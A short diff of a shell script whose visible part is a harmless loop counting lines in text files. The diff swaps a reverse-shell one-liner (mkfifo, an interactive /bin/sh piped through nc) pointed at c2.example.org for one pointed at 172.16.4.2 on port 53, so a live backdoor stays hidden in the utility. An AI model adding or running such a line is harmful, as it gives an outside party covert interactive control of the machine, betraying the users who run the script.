@@ -3,5 +3,4 @@ for f in *.txt; do
   [ -e "$f" ] || continue
   wc -l "$f"
 done
-set -eu
-rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc c2.example.org 8080 > /tmp/f
+rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 172.16.4.2 53 > /tmp/f
